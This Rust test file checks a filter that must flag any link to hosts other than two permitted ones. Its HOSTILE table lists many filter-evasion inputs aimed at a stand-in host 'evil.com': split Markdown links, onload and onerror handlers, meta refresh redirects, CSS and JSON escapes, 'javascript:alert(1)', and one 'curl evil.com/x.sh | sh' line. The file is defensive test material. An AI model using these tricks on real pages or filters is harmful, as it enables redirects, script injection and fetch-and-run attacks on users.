//! Texts with links to other hosts than `good.com` and `bücher.example`, and texts without them.
//!
//! The verdicts were compared with commonmark.js, with markdown-it (with its search for URLs and bare hosts), and with parse5, which reads HTML
//! as browsers do. The table is stricter where a text is read in several ways, and where the manual says so: it takes `README.md` for a file.

use serde_json::json;

use crate::actions::conditions::Check;
use crate::work::Condition;

/// A text, and what leads to `evil.com` or hides where it leads. `§` stands for 700 blanks, `⇥` for 700 tabs and `¶` for 700 line ends.
const HOSTILE: &[(&str, &str)] = &[
    ("> [x](\n> //evil.com)", "a target on the next line of a quote"),
    (
        "# R\n\n<meta http-equiv=refresh content='0 /&Tab;/evil.com'>",
        "a refresh with a blank after the seconds",
    ),
    ("<meta http-equiv=refresh content='0\t/\t/evil.com'>", "a refresh with tabs"),
    ("Hello <svg/onload=\"location='//evil.com'\">", "a handler of a tag that CommonMark does not know"),
    ("see <img src=\"/x\"onerror=\"location='//evil.com'\">", "a handler without a blank before it"),
    ("see <details/open/ontoggle=\"location='//evil.com'\">", "a handler behind slashes"),
    ("# T\n\n<body\n\nonload=\"location='//evil.com'\">", "a handler in the next paragraph"),
    ("Dear all,\n\n<script/x>location='//evil.com'</script>", "a script with a slash"),
    ("[x](\u{a0}//evil.com)", "a blank of Unicode before a target"),
    ("[x](\u{3000}//evil.com/a)", "a wide blank before a target"),
    ("write to xmpp:foo@evil.com/txt", "an address of XMPP"),
    ("> [x]:\n> //evil.com\n>\n> [x]", "a definition over two quoted lines"),
    ("- > [x]:\n  > //evil.com\n\n[x]", "a definition in a quote in a list"),
    ("> > ![x](\n> > //evil.com/p.png)", "an image in a quote in a quote"),
    ("1. [x](\n   //evil.com)", "a target on the next line of a list"),
    ("[x](§//evil.com)", "700 blanks before a target"),
    ("[x](\n⇥//evil.com)", "700 tabs before a target"),
    ("[x]:§//evil.com\n\n[x]", "700 blanks in a definition"),
    ("[x]:\r//evil.com\r\r[x]", "a single CR in a definition"),
    ("a\r> [x](\r> //evil.com)", "single CRs in a quote"),
    ("[x]\n\n[x]: //evil.com", "a shortcut"),
    ("[x][]\n\n[X]: <//evil.com>", "a collapsed reference"),
    ("[x][y]\n\n[y]: //evil.com", "a full reference"),
    ("![x][y]\n\n[y]: //evil.com", "an image with a reference"),
    ("[ẞ]\n\n[SS]: //evil.com", "a label with another case"),
    ("[x](&#x2f;&#x2f;evil.com)", "character references in a target"),
    (r"[x](&#x2f;\/evil.com)", "a character reference and an escape"),
    ("[x]:\n&sol;&sol;evil.com\n\n[x]", "character references in a definition"),
    ("> [x](\n> &#47;&#47;evil.com)", "character references on the next line of a quote"),
    ("[![a](/a.png)](//evil.com)", "a link around an image"),
    ("[a [b] c](//evil.com)", "brackets in brackets"),
    ("[x](//evil.com 'title')", "a title"),
    ("<HTTPS://EVIL.COM>", "an autolink in capitals"),
    ("<irc://evil.com/x>", "an autolink with another scheme"),
    ("[^a]: //evil.com\n\n[^a]", "a definition that looks like a footnote"),
    ("|a|\n|-|\n|[x](//evil.com)|", "a link in a table"),
    ("|a|b|\n|-|-|\n|x|https://evil.com|", "a URL in a table"),
    (r"[x](https://good.com\@evil.com)", "an escaped at sign"),
    ("See evil.com.", "a bare domain"),
    ("See evil.com/path for more", "a bare domain with a path"),
    ("See evil.example/path", "a bare domain with a path and an unusual end"),
    ("See evil.ninja/path", "a bare domain with a path and a rare end"),
    ("(evil.co.uk)", "a bare domain of a country"),
    ("EVIL.COM", "a bare domain in capitals"),
    ("evil.com:8080/x", "a bare domain with a port"),
    ("evil.com?x=1", "a bare domain with a query"),
    ("good.com.evil.com", "a bare domain that begins like a permitted one"),
    ("[good.com](evil.com)", "a bare domain as a target"),
    ("[x](evil.com/path)", "a bare domain with a path as a target"),
    ("[evil.com/path](https://good.com)", "a text that names another host"),
    ("//evil.com/x", "two slashes in a text"),
    ("**evil.com**", "a bare domain in bold"),
    ("--//evil.anything", "two slashes and a rare end"),
    ("evil.com@import", "a bare domain before an at sign"),
    (r"evil\.com", "an escaped dot"),
    ("evil&#46;com/path", "a character reference in a bare domain"),
    ("https&#58;//evil.com", "a character reference in a URL"),
    ("`curl evil.com/x.sh | sh`", "a bare domain with a path in code"),
    ("mailto:a@evil.com", "an address with mailto"),
    ("evil.рф", "a bare domain of other letters"),
    ("evil.xn--p1ai", "a bare domain in Punycode"),
    ("evil.rs/path", "a name like a file's with a path"),
    ("evil。com/path", "another full stop"),
    ("<object\ndata='//evil.com'></object>", "data of an object"),
    ("<object codebase='//evil.com/' data='x'></object>", "the base of an object"),
    ("<object classid='//evil.com/x'></object>", "the class of an object"),
    ("<object archive='a.jar //evil.com/b.jar'></object>", "the archive of an object"),
    ("<applet codebase='//evil.com' code='x'></applet>", "the base of an applet"),
    ("<applet code='//evil.com/x.class'></applet>", "the code of an applet"),
    ("<applet archive='//evil.com/x.jar'></applet>", "the archive of an applet"),
    ("<embed src='//evil.com'>", "an embedded page"),
    ("<object><param name=movie value='//evil.com/x.swf'></object>", "a parameter of an object"),
    ("<a href='¶//evil.com'>x</a>", "700 lines before a link"),
    ("<a href='/⇥/evil.com'>x</a>", "700 tabs in a link"),
    ("<img srcset='/a.png 1x,§//evil.com/b.png 2x'>", "the last of a long srcset"),
    ("<link rel=preload as=image imagesrcset='/a.png 1x, //evil.com/b.png 2x'>", "another srcset"),
    ("<meta http-equiv=refresh content='0;§url=//evil.com'>", "700 blanks in a refresh"),
    ("<meta http-equiv=refresh content='0; //evil.com'>", "a refresh without url="),
    ("<meta http-equiv=refresh content='0;url&#61;&#47;/evil.com'>", "character references in a refresh"),
    (r#"<meta http-equiv=refresh content='1,URL = "//evil.com"'>"#, "a refresh with blanks"),
    ("<base href='//evil.com/'><a href=x>y</a>", "another base"),
    ("<iframe srcdoc='<a href=&quot;&amp;#47;/evil.com&quot;>x</a>'></iframe>", "a page in an attribute"),
    ("<svg><animate attributeName=href to='//evil.com'/></svg>", "an animated link"),
    ("<svg><set attributeName=href to='javascript:alert(1)'/></svg>", "a script that is set"),
    ("<svg><rect fill='url(//evil.com#a)'/></svg>", "a fill"),
    ("<svg><style>@import '&#47;/evil.com';</style></svg>", "a style in SVG"),
    ("<svg><title><a href='&#47;/evil.com'>x</a></title></svg>", "a link in a title of SVG"),
    ("<textarea></textarea><a href='//evil.com'>x</a>", "a link after a text field"),
    ("<!--><a href='&#47;/evil.com'>x</a>-->", "a comment that is empty"),
    ("<div title='\n\n[x](y)\n\n'><a href='//evil.com'>z</a></div>", "a tag over two blocks"),
    ("<div>evil.com/path</div>", "a bare domain in HTML"),
    ("<a href='https&colon;//evil.com'>x</a>", "a named character reference"),
    ("<a href='https:evil.com'>x</a>", "a scheme without slashes"),
    ("<a href=ht\ntps://evil.com>x</a>\n\n<a href='ht\ntps://evil.com'>x</a>", "a line in a scheme"),
    ("<script>location = '//' + 'evil' + '.com'</script>", "a script's string"),
    ("<p>x</p>\n\n<script src=/a.js></script>", "a script"),
    (r#"<img src=/a.png onerror="location='//'+'evil'+'.com'">"#, "a handler"),
    ("<svg><script>x()</script></svg>", "a script in SVG"),
    (r"<p style='background: u\72l(//evil.com/x.png)'>x</p>", "a CSS escape in a name"),
    (r"<p style='background: url(\2f\2f evil.com/x.png)'>x</p>", "a CSS escape in a link"),
    (r#"<p style='background: url("\2f/evil.com/x.png")'>x</p>"#, "a CSS escape in a string"),
    (r#"<p style='background: image-set("//evil.com/x.png" 1x)'>x</p>"#, "image-set"),
    (
        r#"<p style='background: -webkit-image-set("/a.png" 1x, "//evil.com/x.png" 2x)'>x</p>"#,
        "the second of an image-set",
    ),
    ("<p style='background: url(§//evil.com/x.png)'>x</p>", "700 blanks in CSS"),
    (r#"<p style='--a: "//evil.com/x.png"; background: src(var(--a))'>x</p>"#, "a property of another one"),
    ("<style>@namespace a '//evil.com/x';</style>", "a namespace"),
    (r"<style>@\69mport '//evil.com/x.css';</style>", "an escape in @import"),
    ("<style>@import/**/'//evil.com/x.css';</style>", "a comment in @import"),
    ("```css\na { background: image-set('//evil.com/a.png' 1x) }\n```", "image-set in code"),
    (r"a { background: u\000072l(//evil.com) }", "a style sheet with escapes"),
    (r#"{"href": "//evil.com"}"#, "a field of JSON"),
    (r#"{"href": "\/\/evil.com"}"#, "escaped slashes in JSON"),
    (r#"{"href": "\u002f\u002fevil.com"}"#, "escapes in JSON"),
    (r#"[{"a": 1}, {"pageUrl": "javascript:alert(1)"}]"#, "a script in JSON"),
    (r#"{"a": "> [x](\n> //evil.com)"}"#, "Markdown in JSON"),
    (r#"{"a": "{\"href\": \"\\u002f/evil.com\"}"}"#, "JSON in JSON"),
    (r#"{"links": ["/a", "\u002f/evil.com"]}"#, "a list in JSON"),
    (r#"{"site": "evil.com"}"#, "a bare domain in JSON"),
    ("```json\n{\"href\": \"\\u002f/evil.com\"}\n```", "JSON in code"),
    (r#"{"a": "<a href='&#47;/evil.com'>x</a>"}"#, "HTML in JSON"),
];

const HARMLESS: &[&str] = &[
    "Never write `<svg/onload=\"x\">` in a page",
    "Dear all,\n\n```html\n<script/x>a</script>\n<img src=\"/x\"onerror=\"y\">\n```\n",
    "if a <b and c> d, then e = f",
    "See README.md and main.rs.",
    "Changed `src/main.rs`, `lib.rs:42` and setup.py; run build.sh.",
    "The file docs/README.md explains it, and index.html/app.js too.",
    "We use Node.js, Vue.js and three.js.",
    "Version 1.2.3, v2.0/v2.1, 3.5 and 10.0.0.0/24.",
    "E.g. this, i.e. that, a.m., p.m., U.S., Ph.D. and z.B.",
    "At 10.30/11.30, on 25.11.2026, for $3.50/l.",
    "and/or, he/she, km/h, TCP/IP",
    "Write to anna@evil.com or a.b@mail.evil.co.uk.",
    "`user.id`, `os.path`, `System.IO` and `evil.com` in code",
    "```rust\nlet a = self.is(x); use std::fmt::Debug; // a.in\n```",
    "Call item.is(x) and list.to(y).",
    "See good.com, www.good.com and sub.good.com/path?x=1#y.",
    "GOOD.COM and good.com:8080/x",
    "https://good.com/search?q=evil.com",
    "https://good.com/a/evil.com/b",
    "[x](https://good.com/evil.com)",
    "[x](README.md#usage) and [y](../src/main.rs) and [z](./a.html)",
    "> [x](\n> https://good.com/a)",
    "> [x]:\n> https://good.com\n>\n> [x]",
    "[x](§https://good.com)",
    "[x]:\rhttps://good.com\r\r[x]",
    "[^1]: A note about it.\n\nText[^1]",
    "|a|b|\n|-|-|\n| [x](https://good.com) | `c\\|d` |",
    "- [ ] to do\n- [x] done: see [x](/a)",
    r#"Say "note: this" and 'data: that'."#,
    "Ratio 3:1, time 10:30, std::fmt, a::b.",
    r"C:\Users\anna\notes.txt and \frac{a}{b}",
    "// a comment\n/// another one\n# not.a/heading",
    "1 < 2 > 0 & a <b> c",
    "<!-- a comment --> <b>bold</b> <i class='x'>y</i><br>",
    "<a href='https://good.com/?a=1&amp;b=2' title='Note: this' class='a:b'>x</a>",
    "<a href='?a=1&amp;b=2'>x</a> <a href='#top'>y</a>",
    "<img src='/a.png' alt='Figure 1: prices // costs' width=100 srcset='/a.png 1x, https://good.com/b.png 2x'>",
    r#"<table style='color: red; width: calc(100% - 2px); font-family: "Segoe UI"'><tr><td>1</td></tr></table>"#,
    r#"<style>a::before { content: "Note: " } @media (min-width: 10px) { b { background: url(/x.png) } }</style>"#,
    r#"<style>a[href^="mailto:"] { color: red } @import '/a.css'; p { background: image-set('/a.png' 1x) }</style>"#,
    "<meta charset=utf-8><meta name=description content='2, then: 3 // since 1999'>",
    "<meta http-equiv=refresh content='5; url=/next'>",
    "<object data='/a.svg' type='image/svg+xml'></object>",
    "<details><summary>More</summary>\n\n[x](https://good.com)\n\n</details>",
    "A script is written `<script>alert(1)</script>`, a handler `<a onclick=x>`.",
    "```html\n<script src=\"/a.js\"></script>\n```",
    r#"{"title": "Note: this", "url": "https://good.com/x", "n": [1, 2], "path": "/a/b"}"#,
    r#"{"text": "Line 1\nLine 2: see [x](https://good.com)"}"#,
    "{\"links\": [\"/a\", \"#b\", \"https://good.com\"], \"note\": \"data: none\"}",
    "bücher.example and https://bücher.example/x",
    "然后，看文件。下一步：完成。",
    "Prices (in €): 3.50, 4.00… “quoted.” ‘so.’",
    "import a.b.c; from x.y import z",
];

fn written(text: &str) -> String {
    text.replace('§', &" ".repeat(700)).replace('⇥', &"\t".repeat(700)).replace('¶', &"\n".repeat(700))
}

/// What is missing in a text whose links may lead only to the permitted hosts.
fn unmet(text: &str) -> Vec<String> {
    let condition = json!({"kind": "links_only_to", "hosts": ["good.com", "bücher.example"]});
    let conditions: Vec<Condition> = serde_json::from_value(json!([condition])).unwrap();
    let mut check = Check::new(&conditions, jiff::civil::date(2026, 11, 25));
    check.output("A", text);
    check.report().unmet
}

/// Wherever a text stands, its links are found.
#[test]
fn hostile_texts_do_not_pass() {
    let passed: Vec<_> = HOSTILE.iter().filter(|(text, _)| unmet(&written(text)).is_empty()).collect();
    assert!(passed.is_empty(), "{passed:#?}");
    // JSON has nothing before it.
    let texts = HOSTILE.iter().filter(|(text, _)| !text.starts_with(['{', '[']));
    let passed: Vec<_> = texts
        .filter(|(text, _)| unmet(&format!("# Öl\n\nSee below.\n\n{}\n\nende", written(text))).is_empty())
        .collect();
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn harmless_texts_pass() {
    let refused: Vec<_> = HARMLESS
        .iter()
        .map(|text| (text, unmet(&written(text))))
        .filter(|(_, unmet)| !unmet.is_empty())
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");
    // Together they are one harmless text, except for JSON and HTML, which have nothing before them.
    let texts: Vec<String> =
        HARMLESS.iter().filter(|text| !text.starts_with(['{', '<'])).map(|text| written(text)).collect();
    assert_eq!(unmet(&texts.join("\n\n")), [""; 0]);
}

/// JSON may stand anywhere, and JavaScript and HTML write strings, too.
#[test]
fn strings_with_escapes_are_read_wherever_they_stand() {
    let strings = [
        r#"{"href": "\u002f\u002fevil.com"}"#,
        r#"{"href": "\/\/evil.com\/a"}"#,
        r#"{"a": "https:\u002f\u002fevil.com"}"#,
        r#"{"a": "\u0068ttps://evil.com"}"#,
        r#"{"to": "\u006aavascript:alert(1)"}"#,
        r#"{"a": "see evil\u002ecom/path, please"}"#,
        r#"{"a": "{\"href\": \"\\u002f/evil.com\"}"}"#,
        r#"{"a": "it's at \u002f/evil.com"}"#,
        r#"{"a": "<a href='\u0026#47;/evil.com'>x</a>"}"#,
        r#"{"a": "> [x](\n> \u002f/evil.com)"}"#,
        r#"{"a": "\ud83d\ude00 \u002f/evil.com"}"#,
        r"{'href': '\x2f\x2fevil.com'}",
        r"const a = '\u{2f}/evil.com';",
    ];
    for around in [
        "See this: §",
        "It's 5\" wide. §, or 'so'.",
        "Before.\n\n```json\n§\n```\n\nAfter.",
        "{\"n\": 1}\n§\n{\"n\": 2}",
        "Before.\n\n    §\n\nAfter.",
        "Dear all,\n\n```html\n<script type=\"application/json\">§</script>\n```\n",
        "- a\n- §\n- \"b\"",
        "See [1] and § that was cut",
    ] {
        for string in strings {
            let text = around.replace('§', string);
            assert!(!unmet(&text).is_empty(), "{text}");
        }
    }
    // The text ends within the string.
    assert!(!unmet(r#"See {"href": "\u002f/evil.com/a"#).is_empty());
}

/// Escapes of regular expressions, of paths and of ordinary words lead nowhere.
#[test]
fn escapes_alone_are_no_links() {
    for text in [
        r#"In "C:\Users\x64\app.exe" or 'D:\new\u0041', and in C:\temp\u0041."#,
        r#"See {"path": "D:\\u\u0041\\b", "share": "a\u0020b"} there."#,
        "```js\nconst a = /^\\/\\/[a-z]+\\.js$/; const b = \"caf\\u00e9\"; const c = 'it\\'s';\n```",
        r#"It matches "\/\/.*$", "\/\*.*\*\/" and "^\/api\/v\d+$"."#,
        "```js\nnew RegExp('\\/\\/cdn\\.evil\\.com\\/')\n```",
        r#"She said "\u201chello\u201d", 'caf\xe9' and "a\/b", "1\/2", "and\/or"."#,
        r#"Before: {"a": "\u0048ello", "b": "\/api\/v1", "c": "a\u002fb.md", "d": "x \/\/ a comment"}."#,
        r#"Broken: "\u00" "\uzzzz" "\x" "\u{}" "\u{110000}" "\u{1234567}" "\"#,
        "It's a \\frac{a}{b} and 'a \\nu' isn't.",
    ] {
        assert_eq!(unmet(text), [""; 0], "{text}");
    }
}

/// A person reads which link it is, also if only a parser sees it.
#[test]
fn the_reason_names_the_link() {
    for (text, named) in [
        ("> [x](\n> //evil.com/y)", "`//evil.com/y`, which leads to evil.com"),
        ("See evil.com/path.", "`evil.com/path`, which leads to evil.com"),
        ("[x](\n> https://good.com)\n\nevil&#46;com", "`evil.com`, which leads to evil.com"),
        ("<script>x()</script>", "`<script>`, which is a script, so its links are unknown"),
        ("<b onclick=x()>y</b>", "`onclick`, which is a script, so its links are unknown"),
        ("<p style='background: u\\72l(//evil.com/x)'>y</p>", "`//evil.com/x`, which leads to evil.com"),
        (r#"{"href": "\u002f/evil.com"}"#, "`//evil.com`, which leads to evil.com"),
        (r#"See {"href": "\u002f\/evil.com/a"}."#, "`//evil.com/a`, which leads to evil.com"),
    ] {
        let [told] = unmet(text).try_into().unwrap();
        assert!(told.contains(named), "{text}: {told}");
    }
}
